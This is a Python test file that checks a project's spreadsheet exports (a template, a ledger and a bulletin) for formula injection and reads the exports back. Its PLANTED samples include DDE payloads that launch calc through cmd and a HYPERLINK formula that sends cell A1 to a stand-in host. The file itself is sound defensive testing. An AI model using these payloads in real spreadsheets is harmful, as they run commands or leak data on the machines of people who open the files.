"""Every workbook duban writes shows text that looks like a formula as text: the template, the ledger
export and the bulletin. Values starting with = + - @ (or a tab or CR) are planted in names and notes,
and the files are read back."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from builders import COUNTIES, OFFICE
from duban.exchange.ledger import read_ledger, write_ledger
from duban.exchange.template import make_template
from duban.exchange.upload import import_workbook
from duban.persistence.models import EntryRow, IndicatorRow, OrgUnitRow, PeriodRow, PlanRow
from duban.projects.model import Project
from duban.reports.files import render
from duban.reports.service import bulletin_for
from duban.services.entries import Writer, approve, record_value, return_entry, submit
from security.conftest import filled_template

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLANTED = {
    "=": '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def formula_faults(content: bytes) -> list[str]:
    """Cells that a spreadsheet would run: formula cells, or text starting with a formula character."""
    faults = []
    for sheet in load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(DANGEROUS)
                ):
                    faults.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return faults


def all_text(content: bytes) -> str:
    book = load_workbook(BytesIO(content))
    return "\n".join(str(c.value) for s in book.worksheets for r in s.iter_rows() for c in r if c.value)


@pytest.mark.parametrize("start", list(PLANTED))
def test_template_shows_planted_names_and_notes_as_text_and_reads_them_back(start, factory, world):
    planted = PLANTED[start]
    with factory() as session, session.begin():
        plan_row = session.scalars(select(PlanRow)).one()
        plan_row.title = planted
        session.get_one(IndicatorRow, world.indicator).name = planted
        entry = session.get_one(EntryRow, world.entry)
        return_entry(session=session, entry=entry, writer=OFFICE, reason="请补充说明")
        entry.note = planted
    with factory() as session, session.begin():
        plan_row = session.scalars(select(PlanRow)).one()
        unit, june = session.get_one(OrgUnitRow, world.victim_unit), session.get_one(PeriodRow, 6)
        content = make_template(session=session, plan_row=plan_row, unit=unit, period=june, key="k")
        assert formula_faults(content) == []
        assert planted.strip() in all_text(content)
        writer = Writer(user_id=None, admin=True, today=date(2026, 6, 10))
        result = import_workbook(session=session, content=filled_template(content, value=430), key="k",
                                 plan_row=plan_row, writer=writer, unit=unit, period=june, submit=False)  # fmt: skip
        assert [(e.value, (e.note or "").strip()) for e in result.entries] == [
            (Decimal(430), planted.strip())
        ]


def _project(text: str, code: str) -> Project:
    return Project.model_validate(
        {"code": code, "name": text, "county": COUNTIES[0], "category": "industry", "kind": "new",
         "owner": text, "investor": "private", "cluster": text, "total_investment": Decimal(10**8),
         "year_plan": Decimal(10**7)}
    )  # fmt: skip


def test_ledger_export_shows_planted_text_as_text_and_reads_it_back():
    projects = [_project(text, f"P{n}") for n, text in enumerate(PLANTED.values())]
    content = write_ledger(projects, title=PLANTED["="])
    assert formula_faults(content) == []
    assert [(p.name, p.owner, p.cluster) for p in read_ledger(content, counties=COUNTIES)] == [
        (p.name, p.owner, p.cluster) for p in projects
    ]


@pytest.mark.parametrize("start", list(PLANTED))
def test_bulletin_workbook_shows_planted_names_as_text(start, factory, world):
    planted = PLANTED[start]
    with factory() as session, session.begin():
        session.get_one(IndicatorRow, world.indicator).name = planted + "指标"
        session.get_one(OrgUnitRow, world.victim_unit).name = planted + "县"
        entry = session.get_one(EntryRow, world.entry)
        approve(session=session, entry=entry, writer=OFFICE)
        may = session.scalars(select(PeriodRow).where(PeriodRow.month == 5)).one()
        for unit in (world.victim_unit, world.attacker_unit):
            other = record_value(session=session, indicator_id=world.indicator, unit_id=unit, period_id=may.id,
                                 user_id=None, value=Decimal(200), note=planted)  # fmt: skip
            submit(session=session, entry=other, writer=OFFICE)
            approve(session=session, entry=other, writer=OFFICE)
    with factory() as session:
        bulletin = bulletin_for(session=session, period="2026-06", unit=None, today=date(2026, 7, 1))
        content = render(bulletin=bulletin, fmt="xlsx")
    assert formula_faults(content) == []
    assert planted.strip() in all_text(content)
